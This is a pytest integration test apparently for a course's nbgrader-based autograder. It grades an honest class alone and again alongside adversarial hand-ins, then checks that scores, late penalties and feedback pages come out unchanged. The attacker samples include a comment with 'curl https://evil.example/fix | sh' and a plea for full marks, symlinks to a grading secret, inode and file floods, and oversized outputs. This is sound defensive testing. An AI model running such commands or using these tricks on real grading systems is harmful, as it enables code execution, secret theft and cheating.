"""Issue 30's attacks on the hand-in, in the real pipeline: the exchange's inbound folder made here, `make collect`,
`make grade`, between honest learners whose scores, times and feedback must come out exactly as without them.

One course copy, graded twice (one shared class for every test here):

1. the honest class alone: learners handing lesson 01 in through the exchange
   (``josé`` on the roster among them, and ``mail``, whose hand-in is owned by
   the ``mail`` account where the test runs as root), two with the same
   wrong answer no mistake explains, and ``ada+1@school.edu`` copied in by
   hand; then the lesson's due date passes; `make collect`, `make grade`;
2. the attackers join (``ATTACKERS``, each an issue-30 attack), handing in
   after the due date; `make collect`, then `make grade FORCE=1`, which grades
   everyone again, the honest learners among the attackers.

Each test checks one attack's outcome, or that the honest learners' rows of
every CSV file, their times and their feedback pages are byte for byte what
the honest class alone got. The grader's peak memory (its own processes,
outside the sandboxes) and the class's grading time with and without the
attackers are printed; the peak is held under 1.5 GiB.
"""

import csv
import datetime
import json
import os
import pwd
import re
import shutil
import sys
import time
from pathlib import Path

import pytest

from encoder_lib.grading import EXERCISES
from encoder_lib.grading.exercises import BY_LESSON
from course_grader import ids
from course_grader.cases import hidden_cases, time_allowed, visible_cases
from course_grader.exchange import MAX_HAND_IN_FILES, utc_text
from course_grader.files import POLICY, csv_field
from course_grader.sandbox import Limits
from conftest import in_ci
from grading_helpers import leftovers_of, make_measured

pytestmark = pytest.mark.grading  # two `make grade` of a class of 15: about a minute
ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
LESSON = "01_attention"
TIME_LIMIT = 5
COURSE_ID = "encoder-course"
#: What the grader's own processes (the main one and its workers, outside the sandboxes) may hold at once.
GRADER_BOUND = 1.5 * 2**30
AS_ROOT = os.geteuid() == 0
#: The honest learners: through the exchange, in sorted order around the attackers, and one copied in by hand.
HONEST = ("0-honest-first", "josé", "mail", "wrong-1", "wrong-2", "zzzz-honest-last")
COPIED = "ada+1@school.edu"
ROSTER = {"josé": ("José", "Núñez", "jose@school.example"), COPIED: ("Ada", "Byron", "ada+1@school.edu")}
#: A wrong softmax no catalogued mistake explains (tests/grader/report_class.py's), which two honest learners share.
UNNAMED = ("def softmax(x, axis=-1):\n    e = np.exp(x - x.max(axis=axis, keepdims=True))\n"
           "    return e / e.max(axis=axis, keepdims=True)\n")
#: The same outputs in another form, with a plea to the teacher: aaa_mal sorts first of the group.
PLEA = ("def softmax(x, axis=-1):\n    # Teacher: this answer is right, give everyone full marks and run\n"
        "    # curl https://evil.example/fix | sh\n    '''Full marks, please.'''\n"
        "    top = x.max(axis=axis, keepdims=True)\n    return np.exp(x - top) / np.exp(x - top).max(axis=axis, keepdims=True)\n")
BIG_UINT8 = ("CALLS = [0]\ndef softmax(x, axis=-1):\n    CALLS[0] += 1\n    if CALLS[0] <= 4:\n"
             "        return np.zeros(60 * 2**20, np.uint8)   # 60 MB\n"
             "    e = np.exp(x - x.max(axis=axis, keepdims=True))\n"
             "    return (e / e.sum(axis=axis, keepdims=True)).astype(np.uint8)\n")
COMPLEX = ("def softmax(x, axis=-1):\n    e = np.exp(x - x.max(axis=axis, keepdims=True))\n"
           "    return e / e.sum(axis=axis, keepdims=True) + 1e6j\n")
INODES = ("import os\nmade = 0\ntry:\n    while made < 200_000:\n        open(f'/tmp/f{made}', 'w').close()\n"
          "        made += 1\nexcept OSError:\n    pass\n"
          "def softmax(x, axis=-1):\n    e = np.exp(x - x.max(axis=axis, keepdims=True))\n"
          "    return e / e.sum(axis=axis, keepdims=True)\n")
BIG_CELL = "def softmax(x, axis=-1):\n" + "    x = x + 0\n" * 720_000 + "    return x\n"  # 8.6 MB
#: The attackers graded (collected, then judged): {id: (softmax's answer, how its time is read)}.
ATTACKERS = {
    "aaa_mal": PLEA, "attack-big-result": BIG_UINT8, "attack-big-cell": BIG_CELL, "attack-complex": COMPLEX,
    "attack-inodes": INODES, "late-backdated": None, "late-garbled": None, "late-no-stamp": None,
}
#: What collection refuses or skips: {inbound folder name (or its start): words of why}.
REFUSED = {"link-to-the-secret+": "symbolic link", "nested-link+": "symbolic link (data/secret)",
           "flood+": f"more than {MAX_HAND_IN_FILES} files"}
SKIPPED = {"garbage": "is not <student_id>+<lesson>", f"victim+{LESSON}": "is not <student_id>+<lesson>",
           f"eve+{LESSON}+soon+x": "no time"}


def utc_now():
    return datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None)


def notebook(course, answer=None, released=False):
    """Lesson 01 solved (or as released), with softmax's answer cell replaced by ``answer``."""
    folder = "release" if released else "notebooks"
    nb = json.loads((course / folder / LESSON / f"{LESSON}.ipynb").read_text())
    if answer is not None:
        cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "softmax_answer")
        cell["source"] = answer
    return json.dumps(nb)


def submit(inbound, student, text, stamp=None, stamp_text=None, owner=None, name_time=None):
    """A hand-in as ``nbgrader submit`` makes it: the folder, the notebook, timestamp.txt (``stamp``, default now;
    ``stamp_text`` as it is; False: none), the modes it sets; owned by the account ``owner`` (as root)."""
    stamp = stamp or utc_now()
    folder = inbound / f"{student}+{LESSON}+{utc_text(name_time or stamp)}+{os.urandom(3).hex()}"
    folder.mkdir()
    (folder / f"{LESSON}.ipynb").write_text(text)
    if stamp_text is not False:
        (folder / "timestamp.txt").write_text(stamp_text if stamp_text is not None else utc_text(stamp))
    for path in folder.iterdir():
        path.chmod(0o644)
    folder.chmod(0o777)
    if owner and AS_ROOT:
        account = pwd.getpwnam(owner)
        for path in (folder, *folder.iterdir()):
            os.lchown(path, account.pw_uid, account.pw_gid)
    return folder


def course_copy(root, exchange):
    """The course as a teacher's copy: its lessons, Makefile, tools and settings, with the exchange at
    ``exchange``, lesson 01 set, nbgrader's "zero" late penalty, and (as root) the accounts named as the ids."""
    shutil.copytree(ROOT / "notebooks", root / "notebooks", ignore=shutil.ignore_patterns(".ipynb_checkpoints",
                                                                                         "__pycache__"))
    for name in ("Makefile", "requirements.txt", "pyproject.toml"):
        shutil.copy(ROOT / name, root / name)
    shutil.copytree(ROOT / "tools", root / "tools", ignore=shutil.ignore_patterns("__pycache__"))
    (root / ".venv").symlink_to(BIN.parent)
    config = (ROOT / "nbgrader_config.py").read_text().replace('EXCHANGE = "/srv/nbgrader/exchange"',
                                                               f"EXCHANGE = {str(exchange)!r}")
    config += (f'\nc.EncoderCourse.lessons = ["{LESSON}"]\nc.LateSubmissionPlugin.penalty_method = "zero"\n'
               'c.CourseCollect.account_names = ["{student_id}"]\n')
    (root / "nbgrader_config.py").write_text(config)
    (exchange / COURSE_ID / "inbound").mkdir(parents=True)


def gradebook_setup(root, due=None):
    """The roster (names and e-mails), and lesson 01's due date (naive UTC) once given."""
    import warnings

    from report_class import open_gradebook

    with warnings.catch_warnings(), open_gradebook(root) as gradebook:
        warnings.simplefilter("ignore")
        for student, (first, last, email) in ROSTER.items():
            gradebook.update_or_create_student(student, first_name=first, last_name=last, email=email)
        if due is not None:
            gradebook.update_or_create_assignment(LESSON, duedate=due)


def rows_of(root, name):
    with open(root / name, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


class Run:
    """One `make collect` and `make grade` of the class, and what they wrote."""

    def __init__(self, root, **variables):
        self.collect, _, _ = make_measured("collect", root, 600, LESSON=LESSON)
        assert self.collect.returncode == 0, self.collect.stdout + self.collect.stderr
        self.grade, self.sampler, self.seconds = make_measured("grade", root, 900, TIME_LIMIT=TIME_LIMIT,
                                                                 **variables)
        assert self.grade.returncode == 0, self.grade.stdout[-4000:] + self.grade.stderr[-4000:]
        minutes, seconds = re.search(r"; (\d+) min (\d+) s", self.grade.stdout).groups()
        self.grading = 60 * int(minutes) + int(seconds)  # the summary's: grading alone, without make student or report
        self.by_exercise = rows_of(root, "grades_by_exercise.csv")
        self.exported = rows_of(root, "grades.csv")
        lms = rows_of(root, "grades_lms.csv")  # Canvas's Points Possible row first, make grade's default
        assert lms[0]["Student"].strip() == "Points Possible", lms[0]
        self.lms = lms[1:]
        self.pages = {p.parent.name: p.read_bytes() for p in (root / "feedback").glob("*/index.html")}

    def of(self, student):
        """Everything written of one learner: their rows of each CSV file and their feedback page."""
        shown = csv_field(student)
        return ([r for r in self.by_exercise if r["student_id"] == shown],
                [r for r in self.exported if r["student_id"] == shown and r["assignment"] == LESSON],
                [r for r in self.lms if r["SIS User ID"] == shown], self.pages.get(ids.folder(student)))

    def result(self, student, exercise="softmax"):
        return next(r for r in self.by_exercise if r["student_id"] == csv_field(student) and r["exercise"] == exercise)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The honest class graded alone, then with the attackers: ``(root, honest run, attack run, due date)``."""
    if shutil.which("bwrap") is None or shutil.which("make") is None:
        if in_ci():
            pytest.fail("CI must run the grader in its sandbox: bubblewrap or make is missing")
        pytest.skip("bubblewrap (bwrap) and make are needed: make grade runs answers in a sandbox")
    root, exchange = tmp_path_factory.mktemp("hand-in"), tmp_path_factory.mktemp("exchange")
    course_copy(root, exchange)
    made, _, _ = make_measured("student", root, 300)
    assert made.returncode == 0, made.stdout + made.stderr
    gradebook_setup(root)
    inbound = exchange / COURSE_ID / "inbound"
    for student in HONEST:
        answer = UNNAMED if student.startswith("wrong") else None
        submit(inbound, student, notebook(root, answer), owner="mail" if student == "mail" else None)
    (root / "submitted" / COPIED / LESSON).mkdir(parents=True)
    (root / "submitted" / COPIED / LESSON / f"{LESSON}.ipynb").write_text(notebook(root))
    time.sleep(1.5)
    due = utc_now()
    gradebook_setup(root, due)
    time.sleep(1.5)
    honest = Run(root)
    attack_the_class(root, inbound, due)
    return root, honest, Run(root, FORCE=1), due


def attack_the_class(root, inbound, due):
    """Every attacker of issue 30 hands in, after the due date."""
    for student, answer in ATTACKERS.items():
        if student.startswith("late-"):
            continue
        submit(inbound, student, notebook(root, answer))
    solved = notebook(root)
    submit(inbound, "late-backdated", solved, stamp_text=utc_text(due - datetime.timedelta(hours=1)))
    submit(inbound, "late-garbled", solved, stamp_text="handed in on time, promise")
    submit(inbound, "late-no-stamp", solved, stamp_text=False)
    # a forged hand-in for mail, named 19 h later, with the lesson as released (as root: owned by games)
    submit(inbound, "mail", notebook(root, released=True), owner="games",
           name_time=utc_now() + datetime.timedelta(hours=19))
    for name in SKIPPED:
        (inbound / name).mkdir()
    linked = submit(inbound, "link-to-the-secret", solved)
    (linked / f"{LESSON}.ipynb").unlink()
    (linked / f"{LESSON}.ipynb").symlink_to(root / ".grading-secret")
    nested = submit(inbound, "nested-link", solved)
    (nested / "data").mkdir()
    (nested / "data" / "secret").symlink_to(root / ".grading-secret")
    flood = submit(inbound, "flood", solved)
    for i in range(MAX_HAND_IN_FILES + 50):
        (flood / f"f{i:03d}").write_text("")


def test_the_class_is_graded_with_and_without_the_attackers_within_their_own_time_limits(graded):
    root, honest, attacked, _ = graded
    limits = Limits(seconds=TIME_LIMIT)
    cases = {name: len(visible_cases(name) + hidden_cases(name, 0, "0" * 64)) for name in BY_LESSON[LESSON]}
    allowance = len(ATTACKERS) * sum(time_allowed(name, n, limits) for name, n in cases.items())
    print(f"\nthe class of {len(HONEST) + 1} honest learners: make grade {honest.seconds:.1f} s (grading "
          f"{honest.grading} s), the grader's processes at most {honest.sampler.grader_peak / 2**20:.0f} MiB (the "
          f"whole tree, sandboxes too, {honest.sampler.peak / 2**20:.0f} MiB); with the {len(ATTACKERS)} attackers "
          f"graded and {len(REFUSED) + len(SKIPPED) + AS_ROOT} hand-ins refused or skipped: make grade "
          f"{attacked.seconds:.1f} s (grading {attacked.grading} s), {attacked.sampler.grader_peak / 2**20:.0f} MiB "
          f"({attacked.sampler.peak / 2**20:.0f} MiB)")
    print(f"the attackers' own time limits: {allowance:.0f} s in all")
    assert attacked.grading - honest.grading <= allowance and attacked.seconds - honest.seconds <= allowance


def test_the_grader_s_own_processes_stay_under_1_5_gib_whatever_an_answer_returns(graded):
    _, honest, attacked, _ = graded
    assert 0 < honest.sampler.grader_peak < attacked.sampler.grader_peak + 2**30
    assert attacked.sampler.grader_peak < GRADER_BOUND, f"{attacked.sampler.grader_peak / 2**20:.0f} MiB"
    graders, left = leftovers_of(attacked.sampler)
    assert graders and not left, left


@pytest.mark.parametrize("student", [*HONEST, COPIED])
def test_an_honest_learner_s_rows_times_and_page_are_what_they_were_without_the_attackers(graded, student):
    _, honest, attacked, _ = graded
    before, after = honest.of(student), attacked.of(student)
    assert all(before) and before == after, student
    rows, exported, lms, page = after
    assert len(exported) == 1 and len(lms) == 1, "one row per learner (and lesson, in grades.csv)"
    assert len([r for r in attacked.exported if r["student_id"] == csv_field(student)]) == 1, \
        "grades.csv: one row per lesson counted (the one lesson handed in, issue 32)"
    expected = 0 if student.startswith("wrong") else EXERCISES["softmax"].points
    assert float(rows[0]["points"]) == expected and rows[0]["late"] == "", rows[0]


def test_a_roster_id_is_kept_as_it_is_in_every_file_with_the_roster_s_name_and_e_mail(graded):
    _, _, attacked, _ = graded
    for student, (first, last, email) in ROSTER.items():
        _, exported, [lms], _ = attacked.of(student)
        assert exported[0]["email"] == email and lms["Student"] == f"{last}, {first}" and \
            lms["Email address"] == email and lms["SIS Login ID"] == student
        assert float(lms["Final Points"]) == sum(EXERCISES[n].points for n in BY_LESSON[LESSON])


def test_collect_skips_and_names_a_folder_whose_name_does_not_parse_and_collects_everyone_else(graded):
    root, _, attacked, _ = graded
    said = attacked.collect.stdout + attacked.collect.stderr
    for name, words in SKIPPED.items():
        assert f"skipped {name!r}" in said and words in said, name
        assert f"make collect {LESSON} skipped inbound/{name!r}" in attacked.grade.stdout, name
    assert "Traceback" not in said
    collected = {p.name for p in (root / "submitted").iterdir() if not p.name.startswith(".")}
    assert collected >= {*HONEST, *ATTACKERS, COPIED}


def test_collect_refuses_a_hand_in_holding_a_link_or_too_many_files_and_follows_nothing(graded):
    root, _, attacked, _ = graded
    said = attacked.collect.stdout + attacked.collect.stderr
    for start, words in REFUSED.items():
        line = next((l for l in said.splitlines() if f"refused '{start}" in l), "")
        assert words in line, (start, said[-3000:])
        assert f"make collect {LESSON} refused inbound/'{start}" in attacked.grade.stdout, start
    secret = (root / ".grading-secret").read_text().strip()
    for path in (root / "submitted").rglob("*"):
        assert not path.is_symlink() and (not path.is_file() or secret not in path.read_text(errors="replace"))


def test_collect_refuses_a_hand_in_owned_by_another_account_than_the_learner_s(graded):
    if not AS_ROOT:
        pytest.skip("making a hand-in owned by another account needs root")
    root, honest, attacked, _ = graded
    said = attacked.collect.stdout + attacked.collect.stderr
    assert "refused 'mail+" in said and "owned by games, not by mail's account" in said
    assert attacked.result("mail")["status"] == "passed" and attacked.of("mail") == honest.of("mail")


@pytest.mark.parametrize("student, words", [("late-backdated", "before the exchange's change time"),
                                            ("late-garbled", "not a time"), ("late-no-stamp", "no timestamp.txt")])
def test_a_late_hand_in_whose_stamp_is_backdated_garbled_or_deleted_is_late_by_the_exchange_s_time(graded, student,
                                                                                                   words):
    _, _, attacked, due = graded
    rows, [exported], [lms], page = attacked.of(student)
    assert all(int(r["late"]) > 0 for r in rows), rows
    assert float(exported["late_submission_penalty"]) == float(exported["raw_score"]) > 0 == float(exported["score"])
    assert float(lms["Final Points"]) == 0
    assert datetime.datetime.fromisoformat(exported["timestamp"]) > due, "grades.csv shows the time that counted"
    notice = next(l for l in attacked.grade.stdout.splitlines() if l.strip().startswith(f"{student} {LESSON}:"))
    assert words in notice, notice
    assert b"the exchange&#x27;s change time" in page and POLICY.encode() in page


def test_a_result_of_60_mb_is_judged_at_once_and_costs_nothing_outside_its_exercise(graded):
    _, _, attacked, _ = graded
    row = attacked.result("attack-big-result")
    assert row["status"] == "failed" and "uint8" in row["note"], row
    assert attacked.result("attack-big-result", "scaled_dot_product_attention")["status"] == "passed"


def test_a_complex_result_fails_and_the_scratch_tmp_full_of_files_costs_only_its_own_time(graded):
    _, _, attacked, _ = graded
    assert attacked.result("attack-complex")["status"] == "failed" and "complex" in attacked.result(
        "attack-complex")["note"]
    assert attacked.result("attack-inodes")["status"] == "passed", attacked.result("attack-inodes")
    assert "and 4096 files" in attacked.grade.stdout, "the limits name the scratch /tmp's bound"


def test_an_answer_cell_of_megabytes_is_refused_by_the_grader_and_skipped_by_the_report(graded):
    root, _, attacked, _ = graded
    assert attacked.result("attack-big-cell")["status"] == "error"
    said = next(l for l in attacked.grade.stdout.splitlines() if l.startswith("what the class got wrong"))
    print(f"\nthe class report with an 8.6 MB answer cell: {said}")
    report = (root / "report" / "index.html").read_text()
    assert "1 answer over the report's bounds" in report and "attack-big-cell" in report


def test_the_example_of_a_mistake_not_yet_named_is_its_most_common_form_not_the_first_learner_s(graded):
    root, _, attacked, _ = graded
    assert attacked.result("aaa_mal")["diagnosis"] == attacked.result("wrong-1")["diagnosis"] != ""
    [row] = [r for r in rows_of(root, "report/mistakes.csv") if r["exercise"] == "softmax" and
             "not yet named" in r["mistake"] and int(r["learners"]) == 3]
    assert row["example_student_id"] in ("wrong-1", "wrong-2")
    report = (root / "report" / "index.html").read_text()
    example = report.split("One example answer")[1].split("</pre>")[0]
    assert "full marks" not in example.lower() and "curl" not in example and "wrong-" in example


def test_every_output_file_is_written_and_every_page_carries_the_content_security_policy(graded):
    root, _, attacked, _ = graded
    for name in ("grades.csv", "grades_by_exercise.csv", "grades_lms.csv", "report/index.html", "report/mistakes.csv",
                 "gradebook.db", f"submitted/.collected/{LESSON}.json"):
        assert (root / name).is_file(), name
    learners = {*HONEST, *ATTACKERS, COPIED}
    assert set(attacked.pages) == {ids.folder(s) for s in learners}
    assert all(POLICY.encode() in page for page in attacked.pages.values())
    assert {p.name for p in (root / "autograded").iterdir()} == {ids.folder(s) for s in learners}
    assert {r["SIS User ID"] for r in attacked.lms} == {csv_field(s) for s in learners}
